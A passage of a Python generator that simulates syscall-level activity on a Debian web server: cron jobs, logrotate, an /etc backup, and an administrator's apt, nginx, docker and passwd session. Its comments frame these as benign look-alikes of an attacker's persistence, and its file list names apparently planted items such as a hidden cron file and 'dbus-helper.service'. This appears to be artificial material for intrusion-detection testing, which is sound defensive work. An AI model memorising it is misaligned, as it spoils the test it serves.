            w.open(sh, tt, "/var/www/app/.env")
            tt += w.ms(30, 90)
            w.connect(sh, tt, DB_IP, 5432)
            tt += w.ms(40, 200)
            if hourly:
                c = w.spawn(sh, tt, ["/bin/sh", "-c", "'/usr/bin/php8.2' 'artisan' inventory:sync > '/dev/null' 2>&1"])
                w.exec(c, c.t + w.ms(0.3, 1), ["/usr/bin/php8.2", "artisan", "inventory:sync"])
                x = c.t + w.ms(30, 80)
                w.open(c, x, "/var/www/app/.env")
                x = w.dns(c, x + w.ms(5, 20), "api.example.net")
                w.connect(c, x, DNS["api.example.net"], 443)
                x += w.ms(300, 1500)
                w.connect(c, x, DB_IP, 5432)
                x += w.ms(200, 900)
                w.exit(c, x, 0)
                tt = x + w.ms(5, 20)
            w.exit(sh, tt + w.ms(5, 40), 0)
            return tt + w.ms(50, 60)
        cron_job(w, t, "cd /var/www/app && php artisan schedule:run >> /dev/null 2>&1", 33, 33, body)


def hourly_logrotate(w: World):
    """/etc/crontab `17 * * * * root cd / && run-parts --report /etc/cron.hourly`; the admin put a
    logrotate hook there for the hourly nginx rotation. Legitimate renames/unlinks in /var/log."""
    for hh in (9, 10):
        t = at(hh, 17, w.rng.uniform(0.01, 0.3))

        def body(sh, tt):
            w.exec(sh, tt, ["run-parts", "--report", "/etc/cron.hourly"], cwd="/")
            tt = sh.t + w.ms(1, 3)
            hook = w.spawn(sh, tt, ["/etc/cron.hourly/logrotate"])
            tt = hook.t + w.ms(1, 3)
            lr = w.spawn(hook, tt, ["/usr/sbin/logrotate", "/etc/logrotate.conf"])
            x = lr.t + w.ms(1, 3)
            for f in ("/etc/logrotate.conf", "/etc/logrotate.d/nginx", "/etc/logrotate.d/rsyslog",
                      "/etc/logrotate.d/php8.2-fpm", "/var/lib/logrotate/status"):
                w.open(lr, x, f)
                x += w.ms(0.1, 0.6)
            for log in ("access", "error"):
                base = f"/var/log/nginx/{log}.log"
                x += w.ms(0.5, 2)
                w.unlink(lr, x, f"{base}.8.gz")
                for n in range(7, 1, -1):
                    x += w.ms(0.05, 0.3)
                    w.rename(lr, x, f"{base}.{n}.gz", f"{base}.{n + 1}.gz")
                x += w.ms(0.05, 0.3)
                w.rename(lr, x, f"{base}.1", f"{base}.2")
                x += w.ms(0.05, 0.3)
                w.rename(lr, x, base, f"{base}.1")
                x += w.ms(0.1, 0.5)
                w.create(lr, x, base)
                x += w.ms(0.02, 0.1)
                w.chmod(lr, x, base, "0640")
                x += w.ms(0.02, 0.1)
                w.chown(lr, x, base, 33, 4)
            # postrotate (sharedscripts): tell nginx to reopen its logs
            x += w.ms(1, 4)
            ps = w.spawn(lr, x, ["sh", "-c", "\n\t\tinvoke-rc.d nginx rotate >/dev/null 2>&1\n\t",
                                 "logrotate_script", "/var/log/nginx/*.log"], path="/bin/sh")
            w.exec(ps, ps.t + w.ms(0.5, 1.5), ["/bin/sh", "/usr/sbin/invoke-rc.d", "nginx", "rotate"],
                   path="/usr/sbin/invoke-rc.d")
            y = ps.t + w.ms(5, 15)
            init = w.spawn(ps, y, ["/bin/sh", "/etc/init.d/nginx", "rotate"], path="/etc/init.d/nginx")
            y = init.t + w.ms(3, 10)
            y = w.run(init, y, ["start-stop-daemon", "--stop", "--signal", "USR1", "--quiet", "--pidfile",
                                "/run/nginx.pid", "--name", "nginx"], path="/sbin/start-stop-daemon",
                      body=lambda c, z: w.open(c, z + w.ms(0.3, 1), "/run/nginx.pid") + w.ms(0.5, 2), dur=(0.5, 3))
            w.exit(init, y + w.ms(0.5, 2), 0)
            w.exit(ps, y + w.ms(3, 6), 0)
            x = y + w.ms(6, 10)
            # delaycompress: gzip the file rotated last time
            for log in ("access", "error"):
                base = f"/var/log/nginx/{log}.log"
                w.open(lr, x, f"{base}.2")
                x += w.ms(0.1, 0.3)
                w.create(lr, x, f"{base}.2.gz")
                x += w.ms(0.2, 0.5)
                x = w.run(lr, x, ["/bin/gzip"], dur=(40, 400)) + w.ms(0.3, 1)
                w.chown(lr, x, f"{base}.2.gz", 33, 4)
                x += w.ms(0.1, 0.5)
                w.unlink(lr, x, f"{base}.2")
                x += w.ms(0.5, 2)
            w.create(lr, x, "/var/lib/logrotate/status.tmp")
            x += w.ms(0.3, 1)
            w.rename(lr, x, "/var/lib/logrotate/status.tmp", "/var/lib/logrotate/status")
            x += w.ms(0.5, 2)
            w.exit(lr, x, 0)
            w.exit(hook, x + w.ms(0.5, 1.5), 0)
            w.exit(sh, x + w.ms(2, 4), 0)
            return x + w.ms(5, 6)
        cron_job(w, t, "cd / && run-parts --report /etc/cron.hourly", 0, 0, body)


ETC_FILES = ["/etc/adduser.conf", "/etc/apt/sources.list.d/debian.sources", "/etc/crontab",
             "/etc/cron.d/e2scrub_all", "/etc/cron.d/.sysupdate", "/etc/cron.d/php", "/etc/default/grub",
             "/etc/default/prometheus-node-exporter", "/etc/fstab", "/etc/group", "/etc/gshadow",
             "/etc/hostname", "/etc/hosts", "/etc/logrotate.conf", "/etc/logrotate.d/nginx",
             "/etc/modules-load.d/modules.conf", "/etc/nginx/nginx.conf", "/etc/nginx/sites-available/app.conf",
             "/etc/passwd", "/etc/php/8.2/fpm/php.ini", "/etc/php/8.2/fpm/pool.d/www.conf", "/etc/resolv.conf",
             "/etc/shadow", "/etc/ssh/ssh_host_ed25519_key", "/etc/ssh/ssh_host_ed25519_key.pub",
             "/etc/ssh/ssh_host_rsa_key", "/etc/ssh/sshd_config", "/etc/sudoers", "/etc/sudoers.d/webapp-maint",
             "/etc/sudoers.d/dev-maria", "/etc/systemd/system/dbus-helper.service", "/etc/sysctl.conf",
             "/etc/timezone"]


def nightly_backup(w: World):
    """Root cron at 10:00: tar /etc (reads /etc/passwd, /etc/shadow, host keys...), prune, scp."""
    t = at(10, 0, w.rng.uniform(0.02, 0.3))

    def body(sh, tt):
        w.exec(sh, tt, ["/bin/bash", "/usr/local/sbin/backup-etc.sh"], path="/usr/local/sbin/backup-etc.sh")
        x = sh.t + w.ms(2, 5)
        x = w.run(sh, x, ["date", "+%F"], dur=(0.5, 2)) + w.ms(0.5, 2)
        arc = "/var/backups/etc-2026-11-20.tar.gz"
        tar = w.spawn(sh, x, ["tar", "--exclude=/etc/ssl/private", "-czf", arc, "/etc"])
        x = tar.t + w.ms(1, 3)
        gz = w.fork(tar, x)
        w.create(gz, x + w.ms(0.1, 0.3), arc)
        w.exec(gz, gz.t + w.ms(0.1, 0.3), ["gzip"], path="/usr/bin/gzip")
        x = gz.t + w.ms(1, 3)
        for f in ETC_FILES:
            w.open(tar, x, f)
            x += w.ms(0.5, 6)
        x += w.ms(50, 200)
        w.exit(gz, x, 0)
        w.exit(tar, x + w.ms(0.5, 2), 0)
        x += w.ms(3, 8)
        x = w.run(sh, x, ["find", "/var/backups", "-maxdepth", "1", "-name", "etc-*.tar.gz", "-mtime", "+14",
                          "-delete"], body=lambda c, z: w.unlink(c, z + w.ms(1, 3), "/var/backups/etc-2026-11-05.tar.gz"),
                  dur=(1, 4)) + w.ms(1, 3)
        scp = w.spawn(sh, x, ["scp", "-q", "-i", "/root/.ssh/backup_ed25519", arc, "backup@10.0.0.40:/srv/backups/web-01/"])
        x = scp.t + w.ms(1, 3)
        ssh = w.spawn(scp, x, ["/usr/bin/ssh", "-x", "-oPermitLocalCommand=no", "-oClearAllForwardings=yes",
                               "-oRemoteCommand=none", "-oRequestTTY=no", "-oForwardAgent=no", "-q", "-i",
                               "/root/.ssh/backup_ed25519", "-l", "backup", "-s", "--", "10.0.0.40", "sftp"])
        y = ssh.t + w.ms(2, 5)
        w.open(ssh, y, "/root/.ssh/backup_ed25519")
        y += w.ms(0.5, 2)
        w.open(ssh, y, "/root/.ssh/known_hosts")
        y += w.ms(0.5, 2)
        w.connect(ssh, y, "10.0.0.40", 22)
        w.open(scp, y + w.ms(150, 300), arc)
        y += w.ms(900, 1800)
        w.exit(ssh, y, 0)
        w.exit(scp, y + w.ms(1, 3), 0)
        w.exit(sh, y + w.ms(3, 8), 0)
        return y + w.ms(9, 10)
    cron_job(w, t, "/usr/local/sbin/backup-etc.sh", 0, 0, body)


# --------------------------------------------------------------------------------------------
# Admin (already logged in on pts/0 when the log starts)
# --------------------------------------------------------------------------------------------
def apt_method(w: World, apt: Proc, t: int, host: str, files: list[tuple[str, str]],
               https=True) -> tuple[Proc, int]:
    """One acquire method process per host; it drops to _apt, resolves and connects on 443."""
    name = "https" if https else "http"
    m = w.spawn(apt, t, [f"/usr/lib/apt/methods/{name}"], exe="/usr/lib/apt/methods/http")
    x = m.t + w.ms(0.5, 2)
    w.setgid(m, x, 65534)
    x += w.ms(0.02, 0.1)
    w.setuid(m, x, 42)
    x += w.ms(1, 5)
    x = w.dns(m, x, host)
    w.connect(m, x, DNS[host], 443)
    x += w.ms(80, 250)
    for partial, final in files:
        w.create(m, x, partial)
        x += w.ms(40, 900)
    return m, x


def admin(w: World):
    sh = w.R["admin_bash"]
    H = "/home/admin"
    t = at(9, 1, 9.6)
    for argv, d in ((["uptime"], (1, 3)), (["df", "-h"], (2, 6)), (["free", "-m"], (1, 3)),
                    (["systemctl", "status", "nginx", "--no-pager"], (20, 60))):
        t = w.run(sh, t, argv, dur=d) + think(w, 4, 14)

    # 09:05 journalctl via sudo: first try the password is mistyped and Ctrl-C'd (benign failure)
    t = at(9, 5, 31.2)
    t = sudo(w, sh, t, ["journalctl", "-u", "nginx", "--since", "1 hour ago", "--no-pager"], fails=1, ctrl_c=True)
    t += think(w, 5, 9)
    def journal_read(c, x):
        w.open(c, x, f"/var/log/journal/{MACHINE_ID}/system.journal")
        x += w.ms(1, 4)
        w.open(c, x, f"/var/log/journal/{MACHINE_ID}/{ARCHIVED_JOURNALS[0]}")
        return x + w.ms(30, 120)
    t = sudo(w, sh, t, ["journalctl", "-u", "nginx", "--since", "1 hour ago", "--no-pager"], body=journal_read,
             dur=(40, 90))
    # 09:11 what are we running?
    t = at(9, 11, 38.0)
    t = w.run(sh, t, ["cat", "/etc/os-release"], body=lambda c, x: w.open(c, x, "/etc/os-release"), dur=(0.5, 2))
    t = w.run(sh, t + think(w, 3, 8), ["uname", "-r"], dur=(0.3, 1))

    # 09:12 apt-get update
    t = at(9, 12, 30.5)

    def apt_update(apt, x):
        w.open(apt, x, "/etc/apt/sources.list.d/debian.sources")
        x += w.ms(2, 6)
        w.open(apt, x, "/var/lib/dpkg/status")
        x += w.ms(5, 20)
        m1, x1 = apt_method(w, apt, x, "deb.debian.org", [
            ("/var/lib/apt/lists/partial/deb.debian.org_debian_dists_bookworm_InRelease", ""),
            ("/var/lib/apt/lists/partial/deb.debian.org_debian_dists_bookworm-updates_InRelease", ""),
            ("/var/lib/apt/lists/partial/deb.debian.org_debian_dists_bookworm-updates_main_binary-amd64_Packages.xz", "")])
        m2, x2 = apt_method(w, apt, x + w.ms(1, 3), "security.debian.org", [
            ("/var/lib/apt/lists/partial/security.debian.org_debian-security_dists_bookworm-security_InRelease", ""),
            ("/var/lib/apt/lists/partial/security.debian.org_debian-security_dists_bookworm-security_main_binary-amd64_Packages.xz", "")])
        x = max(x1, x2) + w.ms(10, 40)
        g = w.spawn(apt, x, ["/usr/lib/apt/methods/gpgv"])
        y = g.t + w.ms(0.5, 1)
        w.setgid(g, y, 65534)
        w.setuid(g, y + w.ms(0.02, 0.1), 42)
        y += w.ms(1, 3)
        for rel in ("deb.debian.org_debian_dists_bookworm_InRelease",
                    "deb.debian.org_debian_dists_bookworm-updates_InRelease",
                    "security.debian.org_debian-security_dists_bookworm-security_InRelease"):
            y = w.run(g, y, ["/usr/bin/gpgv", "--homedir", "/tmp/apt-key-gpghome.Hw2x9cLqRt", "--keyring",
                             "/usr/share/keyrings/debian-archive-keyring.gpg", "--status-fd", "3",
                             "/tmp/apt.sig.Qm3Ugd", "/tmp/apt.data.b7Nc1s"],
                      body=lambda c, z: w.open(c, z, "/usr/share/keyrings/debian-archive-keyring.gpg") + w.ms(5, 15),
                      dur=(2, 8)) + w.ms(1, 4)
        x = y + w.ms(5, 20)
        st = w.spawn(apt, x, ["/usr/lib/apt/methods/store"])
        y = st.t + w.ms(0.5, 1)
        w.setgid(st, y, 65534)
        w.setuid(st, y + w.ms(0.02, 0.1), 42)
        y += w.ms(60, 300)
        for k in ("deb.debian.org_debian_dists_bookworm_InRelease",
                  "deb.debian.org_debian_dists_bookworm-updates_InRelease",
                  "deb.debian.org_debian_dists_bookworm-updates_main_binary-amd64_Packages",
                  "security.debian.org_debian-security_dists_bookworm-security_InRelease",
                  "security.debian.org_debian-security_dists_bookworm-security_main_binary-amd64_Packages"):
            w.rename(apt, y, f"/var/lib/apt/lists/partial/{k}", f"/var/lib/apt/lists/{k}")
            y += w.ms(0.2, 2)
        for m in (m1, m2, g, st):
            w.exit(m, y, 0)
            y += w.ms(0.2, 1)
        return y + w.ms(100, 400)
    t = sudo(w, sh, t, ["apt-get", "update"], body=apt_update, dur=(20, 80)) + think(w, 8, 20)

    # 09:14 apt-get install: a real package that ships a systemd unit, creates a system user,
    # enables and starts the service (benign look-alike of persistence + /etc/shadow write)
    t = max(t, at(9, 14, 3.0))
    t = sudo(w, sh, t, ["apt-get", "install", "-y", "prometheus-node-exporter", "jq"],
             body=lambda apt, x: apt_install(w, apt, x), dur=(30, 120)) + think(w, 4, 10)
    t = w.run(sh, t, ["systemctl", "status", "prometheus-node-exporter", "--no-pager"], dur=(15, 50)) + think(w, 5, 12)

    def local_curl(c, x):
        w.connect(c, x, "127.0.0.1", 9100, sport=48212)
        w.accept(w.R["node_exporter"], x + w.ms(0.05, 0.2), "127.0.0.1", 48212, 9100)
        return x + w.ms(4, 12)
    # `curl -s localhost:9100/metrics | head`: curl gets SIGPIPE-ish write error -> exit 23
    x0 = t
    hd = w.spawn(sh, x0 + w.ms(0.1, 0.3), ["head"])
    t = w.run(sh, x0, ["curl", "-s", "localhost:9100/metrics"],
              body=local_curl, dur=(2, 6), code=23)
    w.exit(hd, t - w.ms(0.5, 1), 0)
    # the Prometheus server (10.0.0.5) starts scraping; one keep-alive reconnect later on
    w.accept(w.R["node_exporter"], t + w.sec(20, 40), "10.0.0.5", 41788, 9100)
    w.accept(w.R["node_exporter"], at(10, 5, 12.4), "10.0.0.5", 53022, 9100)

    # 09:24 nginx config change + restart (vim as root through sudo; nginx -t; restart)
    t = at(9, 24, 10.0)
    t = sudo(w, sh, t, ["vim", "/etc/nginx/sites-available/app.conf"],
             body=lambda c, x: vim_body_root(w, c, x), dur=(1, 4)) + think(w, 3, 8)
    t = sudo(w, sh, t, ["nginx", "-t"], body=lambda c, x: nginx_conf_reads(w, c, x), dur=(3, 9)) + think(w, 3, 8)
    t = sudo(w, sh, t, ["systemctl", "restart", "nginx"], body=lambda c, x: nginx_restart(w, x), dur=(2, 6))
    t += think(w, 4, 9)
    t = w.run(sh, t, ["systemctl", "status", "nginx", "--no-pager"], dur=(15, 40)) + think(w, 10, 30)
    t = sudo(w, sh, t, ["journalctl", "-u", "nginx", "-n", "20", "--no-pager"],
             body=lambda c, x: w.open(c, x, f"/var/log/journal/{MACHINE_ID}/system.journal") + w.ms(20, 60),
             dur=(10, 40)) + think(w, 6, 15)

    def curl_local80(c, x):
        w.connect(c, x, "127.0.0.1", 80, sport=51934)
        ws = nginx_workers_at(w, x + 100)
        w.accept(ws[0], x + w.ms(0.05, 0.2), "127.0.0.1", 51934, 80)
        return x + w.ms(2, 6)
    t = w.run(sh, t, ["curl", "-sI", "http://127.0.0.1/"], body=curl_local80, dur=(1, 4))

    # 09:44 disk usage check while the web tier is busy
    t = at(9, 44, 2.1)
    t = w.run(sh, t, ["df", "-h", "/var"], dur=(2, 6)) + think(w, 4, 10)
    t = sudo(w, sh, t, ["du", "-sh", "/var/log/nginx", "/var/log/journal"], dur=(200, 900)) + think(w, 8, 20)
    t = w.run(sh, t, ["ls", "-la", "/var/log/nginx"], dur=(1, 3))

    # 09:58 crontab -l (setgid crontab binary)
    t = at(9, 58, 12.7)
    t = w.run(sh, t, ["crontab", "-l"], body=lambda c, x: w.open(c, x, "/var/spool/cron/crontabs/admin"), dur=(0.5, 2))
    # 10:08 admin rotates their own password (setuid-root passwd writes /etc/shadow)
    t = at(10, 8, 2.3)

    def passwd_body(c, x):
        w.open(c, x, "/etc/passwd")
        x += w.ms(0.2, 1)
        w.open(c, x, "/etc/shadow")
        x += w.sec(9, 16)  # current + new password twice
        w.open(c, x, "/etc/login.defs")
        x += w.ms(200, 400)
        w.write(c, x, "/etc/shadow-")
        x += w.ms(0.3, 1)
        w.create(c, x, "/etc/shadow+")
        x += w.ms(0.1, 0.4)
        w.chown(c, x, "/etc/shadow+", 0, 42)
        x += w.ms(0.02, 0.1)
        w.chmod(c, x, "/etc/shadow+", "0640")
        x += w.ms(0.2, 0.8)
        w.rename(c, x, "/etc/shadow+", "/etc/shadow")
        return x + w.ms(1, 3)
    t = w.run(sh, t, ["passwd"], body=passwd_body, dur=(2, 6))

    # 10:19 docker
    t = at(10, 19, 31.0)
    t = w.run(sh, t, ["docker", "ps"], dur=(30, 90)) + think(w, 5, 12)
    t = w.run(sh, t, ["docker", "pull", "nginx:1.25-alpine"], body=lambda c, x: docker_pull(w, x), dur=(20, 60))
    t += think(w, 5, 12)
    t = w.run(sh, t, ["docker", "run", "--rm", "nginx:1.25-alpine", "nginx", "-v"],
              body=lambda c, x: docker_run(w, x), dur=(10, 40)) + think(w, 4, 10)
    t = w.run(sh, t, ["docker", "images"], dur=(20, 60))

    # 10:34 kernel modules for an upcoming k8s node: modules-load.d + restart + modprobe
    t = at(10, 34, 5.5)
    t = sudo(w, sh, t, ["tee", "/etc/modules-load.d/k8s.conf"],
             body=lambda c, x: w.create(c, x + w.sec(4, 8), "/etc/modules-load.d/k8s.conf") + w.ms(1, 3),
             dur=(400, 900)) + think(w, 4, 10)

    def modules_load(c, x):
        m = systemd_unit(w, x + w.ms(2, 6), ["/lib/systemd/systemd-modules-load"])
        y = m.t + w.ms(1, 3)
        for f in ("/etc/modules-load.d/k8s.conf", "/etc/modules-load.d/modules.conf"):
            w.open(m, y, f)
            y += w.ms(0.2, 1)
        # overlay is already loaded (docker's overlay2); br_netfilter is new
        w.open(m, y, f"/lib/modules/{KVER}/kernel/net/bridge/br_netfilter.ko")
        y += w.ms(0.5, 2)
        w.load_module(m, y, f"/lib/modules/{KVER}/kernel/net/bridge/br_netfilter.ko")
        y += w.ms(3, 12)
        w.exit(m, y, 0)
        return y + w.ms(1, 3)
    t = sudo(w, sh, t, ["systemctl", "restart", "systemd-modules-load.service"], body=modules_load, dur=(2, 6))
    t += think(w, 4, 10)
    x0 = t
    g = w.spawn(sh, x0 + w.ms(0.1, 0.4), ["grep", "br_netfilter"])
    t = w.run(sh, x0, ["lsmod"], dur=(2, 6))
    w.exit(g, t + w.ms(0.3, 1), 0)
    t += think(w, 5, 15)

    def modprobe(c, x):
        w.open(c, x, f"/lib/modules/{KVER}/modules.dep.bin")
        x += w.ms(0.3, 1)
        w.open(c, x, f"/lib/modules/{KVER}/kernel/net/ipv4/tcp_bbr.ko")
        x += w.ms(0.5, 2)
        w.load_module(c, x, f"/lib/modules/{KVER}/kernel/net/ipv4/tcp_bbr.ko")
        return x + w.ms(1, 4)
    t = sudo(w, sh, t, ["modprobe", "tcp_bbr"], body=modprobe, dur=(1, 3)) + think(w, 4, 10)
    t = sudo(w, sh, t, ["sysctl", "-w", "net.ipv4.tcp_congestion_control=bbr"],
             body=lambda c, x: w.write(c, x, "/proc/sys/net/ipv4/tcp_congestion_control") + w.ms(0.5, 1),
             dur=(1, 3))

    # 10:44 log reading; last(1) reads wtmp
    t = at(10, 44, 20.1)
    t = sudo(w, sh, t, ["tail", "-n", "50", "/var/log/nginx/access.log"],
             body=lambda c, x: w.open(c, x, "/var/log/nginx/access.log") + w.ms(1, 3), dur=(1, 3)) + think(w, 10, 30)
    t = w.run(sh, t, ["last", "-n", "5"], body=lambda c, x: w.open(c, x, "/var/log/wtmp") + w.ms(1, 2), dur=(1, 3))
    # 10:50 ssh to the deploy host (ssh client reads the admin's private key)
    t = at(10, 50, 7.9)

    def ssh_body(c, x):
        w.open(c, x, f"{H}/.ssh/config")
        x += w.ms(0.3, 1)
        w.connect(c, x, "10.0.0.30", 22)
        x += w.ms(15, 40)
        w.open(c, x, f"{H}/.ssh/known_hosts")
        x += w.ms(5, 20)
        w.open(c, x, f"{H}/.ssh/id_ed25519")
        return x + w.ms(500, 1500)
    t = w.run(sh, t, ["ssh", "deploy@10.0.0.30", "uptime"], body=ssh_body, dur=(50, 200)) + think(w, 20, 60)
    t = w.run(sh, t, ["ls", "-la", "/etc/cron.d"], dur=(1, 3))
    assert t < END_T


def vim_body_root(w: World, c: Proc, x: int) -> int:
    """sudo vim: the sudo child has exec'd vim; do the edit on it (no extra fork)."""
    full = "/etc/nginx/sites-available/app.conf"
    d = "/etc/nginx/sites-available"
    w.open(c, x, "/root/.viminfo")
    x += w.ms(1, 4)
    w.open(c, x, full)
    x += w.ms(1, 4)
    w.create(c, x, f"{d}/.app.conf.swp")
    x += w.sec(80, 140)
    w.create(c, x, f"{d}/4913")
    w.unlink(c, x + w.ms(0.05, 0.2), f"{d}/4913")
    x += w.ms(0.3, 0.6)
    w.rename(c, x, full, full + "~")
    x += w.ms(0.1, 0.5)
    w.create(c, x, full)
    x += w.ms(0.5, 2)
    w.unlink(c, x, full + "~")
    x += w.sec(1, 3)
    w.unlink(c, x, f"{d}/.app.conf.swp")
    x += w.ms(0.5, 1)
    w.create(c, x, "/root/.viminfz.tmp")
    x += w.ms(0.2, 1)
    w.rename(c, x, "/root/.viminfz.tmp", "/root/.viminfo")
    return x + w.ms(1, 3)


def nginx_conf_reads(w: World, p: Proc, x: int) -> int:
    for f in ("/etc/nginx/nginx.conf", "/etc/nginx/mime.types", "/etc/nginx/conf.d/gzip.conf",
              "/etc/nginx/sites-enabled/app.conf", "/etc/nginx/snippets/fastcgi-php.conf",
              "/etc/ssl/certs/web-01.example.com.fullchain.pem", "/etc/ssl/private/web-01.example.com.key"):
        w.open(p, x, f)
        x += w.ms(0.2, 1.5)
    return x


def nginx_restart(w: World, x: int) -> int:
    """systemd stops nginx (ExecStop start-stop-daemon), runs ExecStartPre nginx -t, then
    ExecStart nginx, which daemonizes and forks workers that setuid to www-data."""
    old = nginx_workers_at(w, x)
    master = w.R["nginx"]
    x += w.ms(2, 5)
    stop_begin = x
    stop = systemd_unit(w, x, ["/sbin/start-stop-daemon", "--quiet", "--stop", "--retry", "QUIT/5", "--pidfile",
                               "/run/nginx.pid"], path="/sbin/start-stop-daemon")
    y = stop.t + w.ms(0.3, 1)
    w.open(stop, y, "/run/nginx.pid")
    y += w.ms(30, 120)
    for wk in old:
        w.exit(wk, y, 0)
        y += w.ms(0.5, 4)
    w.unlink(master, y, "/run/nginx.pid")
    y += w.ms(0.5, 2)
    w.exit(master, y, 0)
    y += w.ms(5, 15)
    w.exit(stop, y, 0)
    y += w.ms(2, 8)
    pre = systemd_unit(w, y, ["/usr/sbin/nginx", "-t", "-q", "-g", "daemon on; master_process on;"])
    y = nginx_conf_reads(w, pre, pre.t + w.ms(1, 3)) + w.ms(5, 20)
    w.exit(pre, y, 0)
    y += w.ms(2, 8)
    st = systemd_unit(w, y, ["/usr/sbin/nginx", "-g", "daemon on; master_process on;"])
    y = nginx_conf_reads(w, st, st.t + w.ms(1, 3))
    for ip in ("0.0.0.0", "::"):
        for port in (80, 443):
            w.bind(st, y, ip, port)
            y += w.ms(0.05, 0.2)
    y += w.ms(1, 3)
    nm = w.fork(st, y)  # daemonize
    y += w.ms(0.3, 1)
    w.exit(st, y, 0)
    y += w.ms(0.2, 1)
    w.create(nm, y, "/run/nginx.pid")
    y += w.ms(0.5, 2)
    new = []
    for _ in range(2):
        wk = w.fork(nm, y)
        z = y + w.ms(0.2, 0.8)
        w.setgid(wk, z, 33)
        w.setuid(wk, z + w.ms(0.02, 0.1), 33)
        wk.shared = True
        new.append(wk)
        y += w.ms(0.5, 2)
    w.R["nginx"] = nm
    start, end, ws = w.nginx_epochs[-1]
    w.nginx_epochs[-1] = (start, stop_begin, ws)  # no accepts while nginx restarts
    w.nginx_epochs.append((y + w.ms(5, 20), None, new))
    return y + w.ms(10, 30)


def apt_install(w: World, apt: Proc, x: int) -> int:
    rng = w.rng
    debs = [("libonig5", "6.9.8-1", "amd64"), ("libjq1", "1.6-2.1", "amd64"), ("jq", "1.6-2.1", "amd64"),
            ("prometheus-node-exporter", "1.5.0-1+b6", "amd64")]
    w.open(apt, x, "/var/lib/dpkg/status")
    x += w.ms(20, 80)
    files = [(f"/var/cache/apt/archives/partial/{n}_{v.replace(':', '%3a')}_{a}.deb", "") for n, v, a in debs]
    m, x = apt_method(w, apt, x + w.ms(300, 900), "deb.debian.org", files)
    for n, v, a in debs:
        f = f"{n}_{v}_{a}.deb"
        w.rename(apt, x, f"/var/cache/apt/archives/partial/{f}", f"/var/cache/apt/archives/{f}")
        x += w.ms(0.3, 2)
    w.exit(m, x, 0)
    x += w.ms(50, 200)
    # dpkg --unpack
    dp = w.spawn(apt, x, ["/usr/bin/dpkg", "--status-fd", "36", "--no-triggers", "--unpack", "--auto-deconfigure",
                          "--recursive", "/tmp/apt-dpkg-install-Xq1dWf"])
    y = dp.t + w.ms(2, 6)
    w.open(dp, y, "/var/lib/dpkg/status")
    contents = {
        "libonig5": ["/usr/lib/x86_64-linux-gnu/libonig.so.5.3.0", "/usr/share/doc/libonig5/copyright"],
        "libjq1": ["/usr/lib/x86_64-linux-gnu/libjq.so.1.0.4", "/usr/share/doc/libjq1/copyright"],
        "jq": ["/usr/bin/jq", "/usr/share/man/man1/jq.1.gz"],
        "prometheus-node-exporter": ["/usr/bin/prometheus-node-exporter",
                                     "/lib/systemd/system/prometheus-node-exporter.service",
                                     "/etc/default/prometheus-node-exporter",
                                     "/usr/share/man/man1/prometheus-node-exporter.1.gz"],
    }
    execs = {"/usr/bin/jq", "/usr/bin/prometheus-node-exporter", "/usr/lib/x86_64-linux-gnu/libonig.so.5.3.0",
             "/usr/lib/x86_64-linux-gnu/libjq.so.1.0.4"}
    for n, v, a in debs:
        y += w.ms(20, 80)
        y = w.run(dp, y, ["dpkg-deb", "--fsys-tarfile", f"/var/cache/apt/archives/{n}_{v}_{a}.deb"],
                  body=lambda c, z, n=n, v=v, a=a: w.open(c, z, f"/var/cache/apt/archives/{n}_{v}_{a}.deb") + w.ms(5, 40),
                  dur=(5, 60))
        for f in contents[n]:
            y += w.ms(1, 8)
            w.create(dp, y, f + ".dpkg-new")
            if f in execs:
                y += w.ms(0.1, 0.5)
                w.chmod(dp, y, f + ".dpkg-new", "0755" if "/bin/" in f else "0644")
        for f in contents[n]:
            y += w.ms(0.2, 1.5)
            w.rename(dp, y, f + ".dpkg-new", f)
        y += w.ms(1, 4)
        w.create(dp, y, "/var/lib/dpkg/updates/tmp.i")
        y += w.ms(0.5, 2)
        w.rename(dp, y, "/var/lib/dpkg/updates/tmp.i", "/var/lib/dpkg/updates/0000")
        y += w.ms(0.5, 2)
        w.create(dp, y, f"/var/lib/dpkg/info/{n}.list")
    y += w.ms(5, 20)
    w.create(dp, y, "/var/lib/dpkg/status-new")
    y += w.ms(1, 4)
    w.rename(dp, y, "/var/lib/dpkg/status-new", "/var/lib/dpkg/status")
    y += w.ms(2, 8)
    w.exit(dp, y, 0)
    x = y + w.ms(20, 60)
    # dpkg --configure --pending: maintainer scripts
    dp = w.spawn(apt, x, ["/usr/bin/dpkg", "--status-fd", "36", "--configure", "--pending"])
    y = dp.t + w.ms(5, 15)
    pi = w.spawn(dp, y, ["/var/lib/dpkg/info/prometheus-node-exporter.postinst", "configure", ""])
    z = pi.t + w.ms(3, 10)
    # adduser --system --group ... prometheus  ->  groupadd / useradd (write passwd, shadow, group, gshadow)
    ad = w.spawn(pi, z, ["/usr/bin/perl", "-T", "/usr/sbin/adduser", "--quiet", "--system", "--group",
                         "--no-create-home", "--home", "/var/lib/prometheus", "prometheus"], path="/usr/sbin/adduser")
    q = ad.t + w.ms(20, 60)
    w.open(ad, q, "/etc/adduser.conf")
    q += w.ms(2, 8)

    def shadow_tool(c, r, files):
        for f in files:
            w.open(c, r, f)
            r += w.ms(0.2, 1)
        for f in files:
            w.create(c, r, f + "+")
            r += w.ms(0.1, 0.5)
            w.rename(c, r, f + "+", f)
            r += w.ms(0.1, 0.6)
        return r
    q = w.run(ad, q, ["/usr/sbin/groupadd", "-g", "115", "prometheus"],
              body=lambda c, r: shadow_tool(c, r, ["/etc/group", "/etc/gshadow"]), dur=(2, 8)) + w.ms(3, 10)
    q = w.run(ad, q, ["/usr/sbin/useradd", "-d", "/var/lib/prometheus", "-g", "prometheus", "-s", "/usr/sbin/nologin",
                      "-r", "-K", "UID_MIN=100", "-K", "UID_MAX=999", "prometheus"],
              body=lambda c, r: shadow_tool(c, r, ["/etc/passwd", "/etc/shadow"]), dur=(2, 8)) + w.ms(3, 10)
    w.exit(ad, q, 0)
    z = q + w.ms(3, 8)
    z = w.run(pi, z, ["mkdir", "-p", "/var/lib/prometheus/node-exporter"], dur=(0.5, 2)) + w.ms(1, 3)
    z = w.run(pi, z, ["chown", "prometheus:prometheus", "/var/lib/prometheus/node-exporter"],
              body=lambda c, r: w.chown(c, r, "/var/lib/prometheus/node-exporter", 109, 115), dur=(0.5, 2)) + w.ms(2, 6)
    # deb-systemd-helper enable -> symlink in multi-user.target.wants (same shape as attacker's)
    dsh = w.spawn(pi, z, ["/usr/bin/perl", "/usr/bin/deb-systemd-helper", "enable", "prometheus-node-exporter.service"],
                  path="/usr/bin/deb-systemd-helper")
    r = dsh.t + w.ms(30, 80)
    w.open(dsh, r, "/lib/systemd/system/prometheus-node-exporter.service")
